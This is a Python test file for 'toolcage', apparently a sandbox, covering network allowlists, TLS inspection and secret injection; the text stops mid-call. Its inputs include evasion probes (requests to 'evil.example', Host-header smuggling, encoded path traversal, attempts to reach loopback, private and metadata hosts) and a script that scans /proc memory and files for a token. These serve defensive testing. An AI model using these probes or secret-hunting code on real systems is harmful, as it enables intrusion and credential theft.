#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The toolcage authors
"""network = [...]: what the entries name is reached, by programs that know a proxy and by those that do not, and nothing else is."""

import contextlib
import functools
import json
import os
import shutil
import socket
import socketserver
import subprocess
import threading
import time

from internet import (
    API,
    BUNDLE,
    CA,
    EVIL,
    NAMES,
    PRIVATE,
    Streams,
    asked,
    heard,
    network,
    serve,
    shell_with,
    spoken,
    target,
)

from scene import PAUSE, TOOLCAGE, Skip, check, run, until  # noqa: E402  become() comes after what only root can do

ENTRIES = '["api.example.com:443", "api.example.com:80", "api.example.com:2222", "six.example.com:443"]'
shell = shell_with(ENTRIES)


def named_hosts(s):
    s.works("net.allow")
    answer = shell(s, f"curl -sS {CA} https://api.example.com/v1")
    check(
        answer.status == "ok" and '"host": "api.example.com"' in answer.out,
        "by the proxy variables: TLS",
        answer,
    )
    check(
        answer.json["usage"]["egress_bytes"] > 0
        and answer.json["usage"]["destinations"][0]["target"] == "api.example.com:443",
        "usage says where to, and how much",
        answer.json and answer.json["usage"],
    )
    check(
        answer.enforcement and "egress proxy" in answer.enforcement["net.allow"],
        "the mechanism is named",
        answer,
    )
    answer = shell(s, "curl -sS http://api.example.com/v1?x=1")
    check(
        answer.status == "ok" and '"path": "/v1?x=1"' in answer.out,
        "by the proxy variables: plain HTTP",
        answer,
    )
    answer = shell(
        s,
        f"curl -sS {CA} --noproxy '*' https://api.example.com/ && curl -sS --noproxy '*' http://api.example.com/plain",
    )
    check(
        answer.status == "ok" and answer.out.count('"host": "api.example.com"') == 2,
        "without them: TLS and plain HTTP",
        answer,
    )
    answer = shell(s, f"curl -sS {CA} --proxy socks5h://${{http_proxy#http://}} https://api.example.com/")
    check(answer.status == "ok", "SOCKS5 with a remote name", answer)
    answer = shell(
        s,
        f"curl -sS {CA} https://six.example.com/ && curl -sS -6 {CA} --noproxy '*' https://six.example.com/",
    )
    check(
        answer.status == "ok" and answer.out.count("six.example.com") == 2,
        "a host that has IPv6 alone",
        answer,
    )
    answer = s.python(
        "import socket; c=socket.create_connection(('api.example.com', 2222)); print(c.recv(99)); c.sendall(b'me\\n'); print(c.recv(9))",
        network=ENTRIES,
        writable=(),
    )
    check(answer.status == "ok" and "ME" in answer.out, "a server that speaks first", answer)


def learned(s):
    """What a run reached is in its policy; what it tried is told, by its name."""
    s.works("net.allow")

    def learn(*words):
        return subprocess.run(
            [TOOLCAGE, "learn", *words],
            env=s.environ,
            cwd=s.ws,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        ).stdout

    text = learn("--", "curl", "-sS", "http://api.example.com/")
    check(
        'network = "none"' in text and "danger: it tried to reach api.example.com:80\n" in text,
        "learn tells what was tried",
        text,
    )
    text = learn("--", "curl", "-sS", "--noproxy", "*", "http://api.example.com/")
    check(
        "danger: it tried to reach api.example.com\n" in text, "names that were asked for are a danger", text
    )
    text = learn(
        "--network",
        "api.example.com:80",
        "--",
        "curl",
        "-sS",
        "http://api.example.com/",
        "http://evil.example/",
    )
    check(
        'network = ["api.example.com:80"]' in text and "danger: it tried to reach evil.example:80\n" in text,
        "a host that was reached is granted",
        text,
    )
    policy = s.write("learned.toml", text)
    done = subprocess.run(
        [TOOLCAGE, "call", "--policy", policy, "curl"],
        env=s.environ,
        cwd=s.ws,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    check(done.stdout.count('"host": "api.example.com"') == 1, "the learned policy runs", (text, done))


def last_words(s):
    """What a tool sends in its last moment arrives."""
    s.works("net.allow")
    send = "python3 -c \"import socket,sys; socket.create_connection(('api.example.com', 2223)).sendall(sys.stdin.buffer.read())\""
    for name, begin in (("a word", ":"), ("a megabyte", "head -c 1000000 /dev/zero")):
        token = f"LASTWORD-{len(name)}"
        shell(s, f"({begin}; printf {token}) | {send}", '["api.example.com:2223"]')
        check(
            until(lambda token=token: any(text.endswith(token.encode() + b" in order") for text in heard), 5),
            f"{name} sent last is delivered",
            [text[-40:] for text in heard],
        )


def everything_else(s):
    s.works("net.allow")
    asked.clear()
    answer = shell(s, f"curl -sS {CA} https://evil.example/")
    check(answer.code != 0 and "evil.example:443" in target(answer), "another name, by the proxy", answer)
    check(
        "evil.example:443 is not in the allowlist of tool t; allowed: api.example.com:80, api.example.com:443"
        in answer.message,
        "and the model is told what is allowed",
        answer.message,
    )
    answer = shell(s, "curl -sS http://evil.example/")
    body = json.loads(answer.out)
    check(
        body["host"] == "evil.example" and "api.example.com:443" in body["allowed"],
        "plain HTTP: a refusal that can be read",
        answer,
    )
    answer = shell(s, f"curl -sS -m 5 {CA} --noproxy '*' https://evil.example/")
    check(
        answer.code == 6 and {"evil.example", "evil.example:443"} & target(answer),
        "another name, without the proxy: it does not exist",
        answer,
    )
    check("evil.example" not in asked, "nobody outside was asked for it", asked)
    answer = shell(s, f"curl -sSk -m 5 --noproxy '*' https://{EVIL}/")
    check(answer.code == 7 and f"{EVIL}:443" in target(answer), "an address that is not named", answer)
    answer = shell(s, f"curl -sSk -m 5 https://{API}/; curl -sSk -m 5 --noproxy '*' https://{API}/")
    check(answer.code != 0 and f"{API}:443" in target(answer), "nor the address of a name that is", answer)
    answer = shell(s, "curl -sS -m 5 --noproxy '*' http://api.example.com:8000/")
    check(
        answer.code == 7 and "api.example.com:8000" in target(answer),
        "another port of a granted name",
        answer,
    )
    answer = shell(s, "curl -sS -m 5 --noproxy '*' http://127.0.0.1:8080/")
    check(answer.code == 7, "a server on the host's loopback", answer)
    answer = shell(
        s,
        "curl -sSk -m 5 --noproxy '*' --connect-to evil.example:443:api.example.com:443 https://evil.example/",
    )
    check(answer.code != 0, "another name inside of TLS", answer)
    answer = shell(s, "curl -sS -m 5 --noproxy '*' -H 'Host: evil.example' http://api.example.com/")
    check('"host": "evil.example"' not in answer.out, "another Host inside of plain HTTP", answer)
    answer = shell(s, "curl -sS -m 5 -H 'Host: evil.example' http://api.example.com/")
    check('"host": "evil.example"' not in answer.out, "and by the proxy", answer)


def inside(s):
    """Names that lead to where only this machine and its network reach."""
    s.works("net.allow")
    for name in ("db", "mixed", "loop", "meta"):
        entries = f'["{name}.example.com:80"]'
        answer = shell(
            s,
            f"curl -sS -m 9 http://{name}.example.com/; curl -sS -m 9 --noproxy '*' http://{name}.example.com/",
            entries,
        )
        check(
            '"host"' not in answer.out.replace(f'"host":"{name}', "")
            and f"{name}.example.com:80" in target(answer),
            f"{name}: refused",
            answer,
        )
    answer = shell(s, "curl -sS http://db.example.com/", f'["db.example.com:80", "{PRIVATE}:80"]')
    check('"host": "db.example.com"' in answer.out, "where its address is named too, it is reached", answer)
    answer = shell(
        s, f"curl -sS --noproxy '*' http://{PRIVATE}/x && curl -sS http://{PRIVATE}/y", f'["{PRIVATE}:80"]'
    )
    check(answer.status == "ok" and answer.out.count(PRIVATE) == 2, "an address that is named itself", answer)
    answer = shell(
        s,
        "curl -sS --noproxy '*' http://127.0.0.1:8080/x && curl -sS http://localhost:8080/y",
        '["127.0.0.1:8080"]',
    )
    check(
        answer.status == "ok" and answer.out.count('"path"') == 2,
        "a service of the host's loopback that is named",
        answer,
    )
    answer = shell(s, "curl -sS --noproxy '*' http://localhost:8080/y", '["localhost:8080"]')
    check(answer.status == "ok", "and by its name", answer)
    answer = shell(s, "curl -sS http://hosted.example.com/", '["hosted.example.com:80"]')
    check(answer.status == "ok", "/etc/hosts of the host is followed", answer)


RAW = """
import socket, sys
for head in (b"GET\\t/\\tHTTP/1.1", b"\\x0cGET / HTTP/1.1", b"GET\\x0c/\\x0cHTTP/1.1", b"\\x1cGET / HTTP/1.1", b"get / HTTP/1.1", b"FOO\\t/\\tHTTP/1.1", b"GET /" + b"a" * 9000 + b" HTTP/1.1", b"FOO /" + b"a" * 9000 + b" HTTP/1.1"):
    try:
        s = socket.create_connection(("api.example.com", 80), 5); s.settimeout(5)
        s.sendall(head + b"\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n")
        while text := s.recv(4096): print(text)
    except OSError as error: print(error)
"""


def other_hosts(s):
    """What one server takes for a request another reader must not take for something else."""
    s.works("net.allow")
    answer = s.python(RAW, network=ENTRIES, writable=())
    check(
        '"host": "evil.example"' not in answer.out and answer.code == 0,
        "another Host, behind whatever a server takes for a space",
        answer,
    )
    policy = s.write(
        "argument.toml",
        '[tool.get]\narguments.url = { type = "string", host = ["*", "*:8080"] }\ncommand = ["curl", "-sSk", "-m", "5", "{url}"]\n',
    )
    for url in (
        "http://localhost:8080/",
        "https://localhost/",
        "https://x.localhost/",
        "http://127.0.0.1:8080/",
        f"https://{PRIVATE}/",
    ):
        done = subprocess.run(
            [TOOLCAGE, "call", "--policy", policy, "get", json.dumps({"url": url})],
            env=s.environ,
            cwd=s.ws,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        check(
            done.returncode == 126 and '"path"' not in done.stdout,
            f"every host is no host of this machine: {url}",
            done,
        )
    answer = s.call(
        "curl",
        "-sS",
        "http://localhost:8080/",
        network='["*:8080"]',
        writable=(),
        flags=("--network", "localhost:8080"),
    )
    check(answer.code == 126, "nor does a call narrow it to one", answer)


def killed(s):
    """A tool that is killed has said nothing whole."""
    s.works("net.allow")
    send = """import signal,socket,time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
c=socket.create_connection(('api.example.com',2223)); c.sendall(b'KILLED'+bytes([10])); time.sleep(30)"""
    answer = s.python(
        send, network='["api.example.com:2223"]', writable=(), more='timeout = "1s"\ngrace = "0ms"'
    )
    check(answer.status == "timeout", "a tool that takes too long", answer)
    check(
        until(lambda: any(text.startswith(b"KILLED") for text in heard), 5)
        and not any(text.startswith(b"KILLED") and text.endswith(b"in order") for text in heard),
        "its connection breaks off",
        [text[-40:] for text in heard],
    )


def any_public(s):
    s.works("net.allow")
    answer = shell(
        s,
        f"curl -sS {CA} https://evil.example/ && curl -sS --noproxy '*' {CA} https://evil.example/ && curl -sSk --noproxy '*' https://{EVIL}/",
        '["*"]',
    )
    check(answer.status == "ok" and answer.out.count('"path"') == 3, '"*" is every public address', answer)
    answer = shell(
        s,
        f"curl -sSk -m 5 https://db.example.com/; curl -sSk -m 5 --noproxy '*' https://{PRIVATE}/; curl -sSk -m 5 --noproxy '*' https://db.example.com/",
        '["*"]',
    )
    check('"path"' not in answer.out, "and no private one", answer)


def patterns(s):
    s.works("net.allow")
    entries = '["*.example.com:80", "10.0.0.0/8:80"]'
    answer = shell(
        s, "curl -sS http://api.example.com/ && curl -sS --noproxy '*' http://files.example.com/", entries
    )
    check(
        answer.status == "ok" and answer.out.count('"path"') == 2,
        "a label in place of a star, with and without the proxy",
        answer,
    )
    answer = shell(
        s,
        "curl -sS -m 5 --noproxy '*' http://a.b.example.com/; curl -sS -m 5 http://example.com/; curl -sS -m 5 --noproxy '*' http://evil.example/",
        entries,
    )
    check('"path": ' not in answer.out and "example.com:80" in target(answer), "and no more than one", answer)
    answer = shell(
        s,
        f"curl -sS --noproxy '*' http://{PRIVATE}/ && curl -sS http://{PRIVATE}/ && curl -sS http://db.example.com/",
        entries,
    )
    check(
        answer.status == "ok" and answer.out.count('"path"') == 3,
        "a range, by its addresses and by a name that leads there",
        answer,
    )
    answer = shell(
        s,
        "curl -sS -m 5 --noproxy '*' http://11.1.2.3/; curl -sS -m 5 http://meta.example.com/; curl -sS -m 5 'http://*.example.com/'; curl -sS -m 5 http://10.0.0.0/8:80/",
        entries,
    )
    check(
        '"path": ' not in answer.out
        and "11.1.2.3:80" in target(answer)
        and "meta.example.com:80" in target(answer),
        "and nothing beside them",
        answer,
    )


REQUESTS = (
    '[{ host = "api.example.com", methods = ["POST"], paths = ["/repos/octo/app/issues"] }, { host = "api.example.com", methods = ["GET"], paths = ["/v1"] },'
    ' { host = "api.example.com", port = 444, methods = ["GET"] }, "files.example.com:443"]'
)


def inspected(s):
    """Requests by method and path, within TLS."""
    s.works("net.inspect")
    answer = shell(
        s,
        "curl -sS --json '{}' https://api.example.com/repos/octo/app/issues && curl -sS https://api.example.com/v1/x?y",
        REQUESTS,
    )
    check(
        answer.status == "ok" and '"method": "POST"' in answer.out and '"path": "/v1/x?y"' in answer.out,
        "allowed requests of curl",
        answer,
    )
    check(
        answer.enforcement and "per-cage CA" in answer.enforcement["net.inspect"],
        "the mechanism is named",
        answer,
    )
    destinations = {d["target"]: d for d in answer.json["usage"]["destinations"]}
    check(
        destinations["api.example.com:443"]["connections"] == 2, "usage says where to", answer.json["usage"]
    )
    answer = shell(
        s,
        "curl -sS --noproxy '*' https://api.example.com/v1 && curl -sS --http2 https://api.example.com/v1 && curl -sS --proxy socks5h://${http_proxy#http://} https://api.example.com/v1",
        REQUESTS,
    )
    check(
        answer.status == "ok" and answer.out.count('"path": "/v1"') == 3,
        "without the proxy variables, for HTTP/2, by SOCKS",
        answer,
    )
    for what, words in {
        "another method": "-X DELETE https://api.example.com/v1",
        "the method of another path": "-X POST https://api.example.com/v1",
        "another path": "https://api.example.com/user",
        "a path that begins alike": "https://api.example.com/v10",
    }.items():
        answer = shell(s, f"curl -sS -w '%{{http_code}}' {words}", REQUESTS)
        check(
            answer.out.endswith("403")
            and "accepts no such request under the allowlist" in answer.out
            and "POST api.example.com:443 /repos/octo/app/issues" in answer.out
            and target(answer) == {"api.example.com:443"},
            f"refused: {what}",
            answer,
        )
    for path in (
        "/v1/../user",
        "/v1/%2e%2e/user",
        "/v1/..%2fuser",
        "//v1",
        "/v1/;/x",
        "/v1/%5c../user",
        "/v1/%252e%252e/user",
        "/v1/%c0%ae%c0%ae/user",
    ):
        answer = shell(
            s, f"curl -sS --path-as-is -w '%{{http_code}}' 'https://api.example.com{path}'", REQUESTS
        )
        check(
            answer.out.endswith("400")
            and "ambiguous" in answer.out
            and target(answer) == {"api.example.com:443"},
            f"refused: {path}",
            answer,
        )
    answer = shell(
        s,
        "curl -sS -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://api.example.com/v1",
        REQUESTS,
    )
    check(answer.out.endswith("403") and "websocket" in answer.out, "refused: a websocket", answer)
    answer = shell(s, "curl -sS -m 5 https://evil.example/v1", REQUESTS)
    check(answer.status == "failed" and target(answer) == {"evil.example:443"}, "another host", answer)
    answer = shell(s, f"curl -sS {CA} https://files.example.com/anything", REQUESTS)
    check(answer.status == "ok", "a host without rules shows its own certificate", answer)


def trusted(s):
    """Whom the tool and the proxy trust."""
    s.works("net.inspect")
    answer = shell(s, "curl -sSk -w '%{http_code}' https://api.example.com:444/", REQUESTS)
    check(
        answer.out.endswith("502") and "could not be trusted" in answer.out and "self-signed" in answer.out,
        "a server with a certificate of its own",
        answer,
    )
    answer = shell(s, "curl -sSfk https://api.example.com:444/", REQUESTS)
    check(
        answer.status == "failed" and "; network: api.example.com:444 could not be trusted" in answer.message,
        "the message has the reason of a 502",
        answer,
    )
    check(
        "toolcage: network: api.example.com:444 could not be trusted" in answer.err,
        "and so does a person",
        answer,
    )
    answer = shell(
        s,
        "curl -sS --noproxy '*' https://api.example.com/v1",
        '[{ host = "api.example.com", methods = ["GET"] }]',
        more='env.set = { CURL_CA_BUNDLE = "/ca/cert.pem" }',
    )
    check(
        answer.status == "failed"
        and "certificate" in answer.message
        and target(answer) == {"api.example.com:443"}
        and "/etc/toolcage-ca.pem" in json.dumps(answer.json["denials"]),
        "the policy's own variable stays, and the denial says what is missing",
        answer,
    )
    answer = shell(
        s,
        f"cmp {BUNDLE} /etc/toolcage-ca.pem && env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://api.example.com/v1; touch /etc/toolcage-ca.pem {BUNDLE}",
        REQUESTS,
    )
    check(
        '"path": "/v1"' in answer.out and answer.message.count("cannot touch") == 2,
        "the system's file, without a variable",
        answer,
    )
    text = shell(
        s,
        'awk \'/BEGIN/ { c = "" } { c = c $0 "\\n" } END { printf "%s", c }\' /etc/toolcage-ca.pem | openssl x509 -noout -text',
        REQUESTS,
    ).out
    check(
        "critical" in text
        and "DNS:api.example.com" in text
        and "files.example.com" not in text
        and "IP:0.0.0.0/0.0.0.0" in text,
        "the authority is for the inspected names alone",
        text,
    )
    two = [shell(s, "sha256sum /etc/toolcage-ca.pem", REQUESTS).out for _ in range(2)]
    check(two[0] != two[1], "cages have different authorities", two)
    answer = shell(
        s,
        f"env | grep -c toolcage-ca.pem; ls /etc/toolcage-ca.pem; curl -sS {CA} https://api.example.com/",
        ENTRIES,
    )
    check(
        answer.out.startswith("0\n") and "No such file" in answer.message,
        "none where nothing is looked into",
        answer,
    )
    script = (
        "import urllib.request; print(urllib.request.urlopen('https://api.example.com/v1').read().decode())"
    )
    answer = s.python(script, network=REQUESTS, writable=())
    check('"path": "/v1"' in answer.out, "Python's own", answer)
    node = (
        "require('https').get('https://api.example.com/v1', r => r.on('data', d => process.stdout.write(d)))"
    )
    if shutil.which("node", path="/usr/bin"):
        check('"path": "/v1"' in shell(s, f'node -e "{node}"', REQUESTS).out, "Node")


def contained(s):
    """The same in containers: by the variables, and by the system's own file."""
    s.works("net.inspect")
    for backend, runtimes in (("oci", ("crun", "runc")), ("gvisor", ("runsc",))):
        if not any(map(shutil.which, runtimes)):
            continue
        script = "curl -sS https://api.example.com/v1 && env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://api.example.com/v1; curl -sS -w '%{http_code}' https://api.example.com/v2"
        answer = shell(s, script, REQUESTS, f'backend = "{backend}"\nimage = "system"\ntimeout = "60s"')
        if "oci" in answer.message and answer.status == "denied":
            raise Skip(f"skipped: {backend}: {answer.message}")
        check(
            answer.out.count('"path": "/v1"') == 2 and answer.out.endswith("403"),
            f"{backend}: requests within TLS",
            answer,
        )
        begin_upstream()
        del connected[:]
        answer = shell(
            s,
            f"curl -sS {CA} https://api.example.com/one && curl -sS --noproxy '*' {CA} https://api.example.com/two",
            more=f'backend = "{backend}"\nimage = "system"\ntimeout = "60s"\n{SITE}',
        )
        check(
            '"path": "/one"' in answer.out
            and '"path": "/two"' in answer.out
            and connected == [f"{API}:443"] * 2,
            f"{backend}: by a site's proxy",
            (answer, connected),
        )


VALUE = "ghs_0123456789abcdefSECRET"
ISSUES = '[{ host = "api.example.com", methods = ["POST"], paths = ["/repos/octo/app/issues"] }]'
SECRET = 'secrets.GITHUB = { from = "env:GITHUB_TOKEN", hosts = ["api.example.com:443"], header = "Authorization: Bearer {secret}" }'


def secretly(
    s,
    script,
    entries='["api.example.com:443", "api.example.com:80", "files.example.com:443"]',
    more=SECRET,
    **rest,
):
    spoken.clear()
    s.environ["GITHUB_TOKEN"] = VALUE
    answer = shell(s, script, entries, more, **rest)
    del s.environ["GITHUB_TOKEN"]
    return answer


def sent():
    return [headers.get("Authorization") for _, _, headers in spoken]


def secrets(s):
    """A value that goes into requests, and never into the cage."""
    s.works("net.secret")
    answer = secretly(
        s, "curl -sS --fail-with-body --json '{}' https://api.example.com/repos/octo/app/issues", ISSUES
    )
    check(
        answer.status == "ok" and sent() == [f"Bearer {VALUE}"],
        "a request of a program that knows nothing of it",
        (answer, spoken),
    )
    check(
        answer.enforcement and "outside the cage" in answer.enforcement["net.secret"],
        "the mechanism is named",
        answer,
    )
    check(VALUE not in json.dumps(answer.json), "no part of the result holds it", answer.json)
    for words in (
        "-H 'authorization: Bearer mine'",
        '-H "Authorization: token $GITHUB"',
        "-H 'Authorization: a' -H 'AUTHORIZATION: b'",
        "--noproxy '*'",
        "-u me:mine",
        "--proxy socks5h://${http_proxy#http://}",
    ):
        answer = secretly(s, f"curl -sS {words} https://api.example.com/")
        check(
            answer.status == "ok"
            and sent() == [f"Bearer {VALUE}"]
            and len([k for k in spoken[0][2] if k.lower() == "authorization"]) == 1,
            f"it takes the place of what the tool says: {words}",
            (answer, spoken),
        )
    answer = secretly(
        s,
        f"curl -sS -H 'Authorization: mine' {CA} https://files.example.com/ && curl -sS -H 'Authorization: mine' http://api.example.com/ && curl -sS http://api.example.com/",
    )
    check(
        answer.status == "ok" and sent() == ["mine", "mine", None],
        "not to another host, and not without TLS",
        spoken,
    )
    answer = secretly(
        s,
        "curl -sS http://api.example.com/; curl -sS --noproxy '*' http://api.example.com/",
        more=SECRET.replace('"api.example.com:443"', '"http://api.example.com:80"'),
    )
    check(sent() == [f"Bearer {VALUE}"] * 2, "without TLS where its host says so", (answer, spoken))
    answer = secretly(
        s, "curl -sSk https://api.example.com:444/", '["api.example.com:444"]', SECRET.replace("443", "444")
    )
    check("could not be trusted" in answer.out and not spoken, "not to who cannot prove the name", answer)
    answer = secretly(
        s,
        "curl -sS -X DELETE https://api.example.com/repos/octo/app/issues; curl -sS https://api.example.com/user",
        ISSUES,
    )
    check(
        not spoken and answer.out.count("accepts no such request") == 2,
        "not with a request that is not allowed",
        answer,
    )


def masked(s):
    """What a server says of it the tool does not hear."""
    s.works("net.secret")
    answer = secretly(s, "curl -sSi --compressed https://api.example.com/echo")
    check(
        f"Bearer {'*' * len(VALUE)}" in answer.out
        and VALUE not in answer.out
        and "identity" in answer.out
        and answer.status == "ok",
        "in the body",
        answer,
    )
    answer = secretly(s, "curl -sSi https://api.example.com/pieces")
    check(
        answer.out.count("*" * len(VALUE)) == 2 and answer.out.endswith(" and more\n"),
        "in a header, and byte by byte",
        answer,
    )
    check(VALUE[:12] not in answer.out, "no part of it", answer)
    answer = secretly(
        s,
        "printf 'GET /echo HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 9 openssl s_client -quiet -CAfile /etc/toolcage-ca.pem -servername api.example.com -connect api.example.com:443 2>/dev/null",
    )
    check(
        "*" * len(VALUE) in answer.out and VALUE not in answer.out,
        "a client that speaks TLS itself gets no secret",
        answer,
    )


SEARCH = r"""
import os, stat
want = open('/dev/stdin').read().strip()[::-1]
seen = []
def look(name):
    try:
        with open(os.open(name, os.O_RDONLY | os.O_NONBLOCK), 'rb') as f:
            if stat.S_ISREG(os.fstat(f.fileno()).st_mode) and want.encode() in f.read(1 << 22): seen.append(name)
    except OSError: pass
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline', 'auxv'): look(f'/proc/{pid}/{name}')
    try:
        for fd in os.listdir(f'/proc/{pid}/fd'): look(f'/proc/{pid}/fd/{fd}')
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in maps:
                low, high = (int(x, 16) for x in line.split()[0].split('-'))
                try: mem.seek(low); text = mem.read(min(high - low, 1 << 24))
                except (OSError, ValueError, OverflowError): continue
                if want.encode() in text and int(pid) != os.getpid(): seen.append(f'{pid} {line}')
    except OSError: pass
for top in ('/tmp', '/run', '/dev/shm', '/etc', '/workspace'):
    for where, _, names in os.walk(top):
        for name in names: look(os.path.join(where, name))
print('seen', seen, os.environ.get('GITHUB'))
"""


def commanded(s):
    """A value that a program of the operator's prints."""

    def ask(words, script="curl -sS https://api.example.com/", **rest):
        spoken.clear()
        return shell(
            s,
            script,
            '["api.example.com:443"]',
            SECRET.replace("env:GITHUB_TOKEN", f"command:{words}"),
            **rest,
        )

    program = s.write(
        "bin/print-token", f'#!/bin/sh\nread line; [ -z "$line" ] && [ "$2" = b ] && echo {VALUE}\n', 0o755
    )
    answer = ask(f"{program} a b")
    check(answer.status == "ok" and sent() == [f"Bearer {VALUE}"], "a command's output", answer)
    s.environ["PATH"] += ":" + s.path("bin")
    answer = ask("print-token a b")
    check(
        answer.code == 126 and "no such command" in answer.message and not spoken,
        "the caller's PATH is not searched",
        answer,
    )
    s.environ |= {"PYTHONPATH": s.path("bin"), "TZ": "UTC"}
    seen = s.write("bin/seen", f"#!/bin/sh\n[ \"$PWD $PYTHONPATH $TZ\" = '/  UTC' ] && echo {VALUE}\n", 0o755)
    answer = ask(seen)
    check(answer.status == "ok" and sent() == [f"Bearer {VALUE}"], "in / with a clean environment", answer)
    answer = ask(f"env TOKEN={VALUE} printenv TOKEN")
    check(
        answer.status == "ok" and sent() == [f"Bearer {VALUE}"], "with variables that its words set", answer
    )
    s.write("bin/slow", "#!/bin/sh\nexec sleep 60\n", 0o755)
    s.write("bin/much", "#!/bin/sh\nexec cat /dev/zero\n", 0o755)
    for words, why in (
        (f"{program} a c", "it has failed"),
        ("no-such-token", "no such command"),
        (s.path("bin/slow"), "not ended in time"),
        (s.path("bin/much"), "prints too much"),
        (s.write("bin/not", VALUE, 0o644), "no such command"),
        (s.write("bin/format", VALUE, 0o755), "cannot be executed"),
    ):
        answer = ask(words)
        check(
            answer.code == 126
            and why in answer.message
            and not spoken
            and VALUE not in json.dumps(answer.json),
            f"a command that is none: {why}",
            answer,
        )
    shutil.copy(program, s.path("ws/print-token"))
    written = s.path("ws/print-token")
    os.symlink(written, s.path("bin/linked"))
    for words in (
        f"{written} a b",
        f"sh {written} a b",
        f"env -S{written}",
        f"sh --rcfile={written} -c true",
        f"sh ..{written}",
        f"sh {written[1:]}",
        s.path("bin/linked"),
    ):
        answer = s.shell(
            "true",
            network='["api.example.com:443"]',
            more=SECRET.replace("env:GITHUB_TOKEN", f"command:{words}"),
        )
        check(
            answer.code == 126 and "a tool may have written" in answer.message,
            f"nor one with a word that a tool could write: {words}",
            answer,
        )
    answer = ask(f"{written} a b")
    check(
        answer.code == 126 and "a tool may have written" in answer.message,
        "nor one that a tool of an earlier call could write",
        answer,
    )


def kept_out(s):
    """Nowhere in the cage, and no way to have it handed in."""
    s.works("net.secret")
    s.environ["GITHUB_TOKEN"] = VALUE
    answer = s.python(
        SEARCH, network='["api.example.com:443"]', writable=(), more=SECRET, stdin=VALUE[::-1].encode()
    )
    check(
        answer.out.startswith("seen [] toolcage-puts-it-in"),
        "no variable, argument, file, descriptor or memory holds it",
        answer,
    )
    bare = s.call("sh", "-c", "echo $GITHUB_TOKEN", writable=(), more='env.pass = ["GITHUB_TOKEN"]')
    check(VALUE in bare.out, "(a variable that is passed does)", bare)
    answer = secretly(s, "true", flags=("-e", "GITHUB_TOKEN"))
    check(
        answer.code == 126 and "more than the policy grants" in answer.message,
        "a call cannot hand it on",
        answer,
    )
    token = s.write("ws/token", VALUE + "\n")
    more = SECRET.replace("env:GITHUB_TOKEN", f"file:{token}")
    answer = s.shell(
        f"cat {token}; ls {s.ws}; curl -sS https://api.example.com/",
        network='["api.example.com:443"]',
        readable=[s.ws],
        writable=(),
        more=more,
    )
    check(
        VALUE not in answer.out + answer.message
        and "token" not in answer.out
        and sent()[-1:] == [f"Bearer {VALUE}"],
        "its file is hidden in what the tool may read",
        answer,
    )
    answer = s.shell("true", network='["api.example.com:443"]', readable=[token], writable=(), more=more)
    check(answer.code == 126 and "its file is granted" in answer.message, "and granted to nobody", answer)
    link = s.path("link")
    os.symlink(token, link)
    answer = s.shell(
        "true",
        network='["api.example.com:443"]',
        readable=[s.ws],
        writable=(),
        more=SECRET.replace("env:GITHUB_TOKEN", f"file:{link}"),
    )
    check(
        answer.code == 126 and "a link into a directory that the tool may read" in answer.message,
        "nor by a link",
        answer,
    )
    answer = s.shell("true", network='["api.example.com:443"]', more=more)
    check(
        answer.code == 126 and "a tool may have written it" in answer.message,
        "nor where a tool could put another",
        answer,
    )
    answer = s.shell("true", network='["api.example.com:443"]', writable=(), more=more)
    check(
        answer.code == 126 and "a tool may have written it" in answer.message,
        "nor where a tool of an earlier call could",
        answer,
    )
    token = s.write("kept/token", "")
    more = SECRET.replace("env:GITHUB_TOKEN", f"file:{token}")
    for text, why in (
        ("", "it is empty"),
        ("short\n", "fewer than 8"),
        (VALUE + "\nX: y\n", "line break"),
        ("x" * 20000, "more than 16384"),
    ):
        s.write("kept/token", text)
        answer = s.shell("true", network='["api.example.com:443"]', writable=(), more=more)
        check(
            answer.code == 126
            and why in answer.message
            and answer.json["error"]["stage"] == "secrets"
            and VALUE not in json.dumps(answer.json),
            f"a value that is none: {why}",
            answer,
        )
    commanded(s)
    answer = shell(s, "true", '["api.example.com:443"]', SECRET)
    check(
        answer.code == 126
        and "GITHUB_TOKEN" in json.dumps(answer.json["error"])
        and "is not set" in answer.message,
        "one that is not there",
        answer,
    )


def behind(s):
    """A site behind a proxy: its own host names, and nothing of it in the cage."""
    s.works("net.allow")
    begin_upstream()
    script = f"curl -sS {CA} https://api.example.com/one && curl -sS --noproxy '*' {CA} https://api.example.com/two; env | grep -cF 10.1.2.3; curl -sS -m 5 http://{PRIVATE}:3128/"
    answer = shell(s, script, more=SITE)
    check(
        '"path": "/one"' in answer.out and '"path": "/two"' in answer.out and connected == [f"{API}:443"] * 2,
        "by the upstream, with the address that was looked at",
        (answer, connected),
    )
    check(
        '0\n{"error"' in answer.out.replace("\r", "") and f"{PRIVATE}:3128" in target(answer),
        "the tool neither sees nor reaches the upstream proxy",
        answer,
    )
    check(
        answer.enforcement and "through http://10.1.2.3:3128" in answer.enforcement["net.allow"],
        "the mechanism names it",
        answer,
    )
    answer = shell(
        s,
        f"curl -sS {CA} https://files.example.com/three",
        '["files.example.com:443"]',
        more=SITE + 'names = "upstream"\n',
    )
    check(
        '"path": "/three"' in answer.out
        and connected[2:] == ["files.example.com:443"]
        and "not checked" in answer.enforcement["net.allow"],
        "by the name, and the result says what that is worth",
        (answer, connected),
    )
    del connected[:]
    s.environ["PAIR"] = "someone:s3cret-of-the-site"
    answer = shell(
        s,
        f"curl -sS {CA} https://api.example.com/four; env; cat /proc/*/environ | tr '\\0' '\\n'",
        more=SITE + 'credentials = "env:PAIR"\n',
    )
    del s.environ["PAIR"]
    check(
        '"path": "/four"' in answer.out and heads[-1] == "Basic c29tZW9uZTpzM2NyZXQtb2YtdGhlLXNpdGU=",
        "with credentials, which the upstream alone hears",
        (answer, heads),
    )
    check(
